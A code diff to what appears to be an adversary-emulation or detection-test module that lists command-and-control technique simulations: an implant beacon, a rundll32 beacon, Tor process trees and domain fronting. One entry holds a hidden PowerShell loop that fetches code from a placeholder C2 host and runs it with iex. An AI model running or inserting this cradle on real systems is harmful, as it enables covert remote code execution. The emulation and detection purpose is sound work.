@@ -43,12 +43,18 @@ export const commandAndControl = [
     v("implant-https", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["{{c2}}", 443]], keep: true }], {
       shell: "none",
     }),
-    v("ps-loop", [
-      {
-        cmd: 'powershell.exe -nop -w hidden -c "while($true){$r=iwr -UseBasicParsing https://{{c2}}/api/v1/{{rand}};iex $r.Content;sleep 60}"',
-        net: [["{{c2}}", 443]],
-      },
-    ]),
+    // A hidden polling loop is started by persistence (a Run value at logon), not typed at a prompt.
+    v(
+      "ps-loop",
+      [
+        {
+          cmd: 'powershell.exe -nop -w hidden -c "while($true){$r=iwr -UseBasicParsing https://{{c2}}/api/v1/{{rand}};iex $r.Content;sleep 60}"',
+          parent: "@explorer",
+          net: [["{{c2}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
     v("rundll32-beacon", [
       { cmd: "rundll32.exe {{appdata}}\\{{rand}}.dll,StartW", net: [["{{c2}}", 443]], keep: true },
     ]),
@@ -118,12 +124,24 @@ export const commandAndControl = [
   ]),
   t("T1090.003", "Multi-hop proxy", "Tor started on the host.", [
     v("tor", [{ cmd: "{{appdata}}\\tor\\tor.exe", net: [["{{c2ip}}", 9001]], keep: true }]),
-    v("tor-browser", [
-      {
-        cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe" -f torrc',
-        net: [["{{c2ip}}", 443]],
-      },
-    ]),
+    // Tor Browser: the user starts firefox.exe, which runs the bundled tor.exe with its control and SOCKS ports.
+    v(
+      "tor-browser",
+      [
+        {
+          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\firefox.exe" ',
+          as: "ff",
+          parent: "@explorer",
+          keep: true,
+        },
+        {
+          cmd: '"{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Tor\\tor.exe" -f "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor\\torrc" DataDirectory "{{home}}\\Desktop\\Tor Browser\\Browser\\TorBrowser\\Data\\Tor" +__ControlPort 127.0.0.1:9151 +__SocksPort "127.0.0.1:9150 IPv6Traffic PreferIPv6 KeepAliveIsolateSOCKSAuth" __OwningControllerProcess {pid:ff}',
+          parent: "ff",
+          net: [["{{c2ip}}", 443]],
+        },
+      ],
+      { shell: "none" },
+    ),
   ]),
   t("T1090.004", "Domain fronting", "HTTPS to a CDN with a different Host header.", [
     v("fronted", [{ cmd: "{{appdata}}\\{{name}}.exe", net: [["ajax.aspnetcdn.com", 443]], keep: true }], {
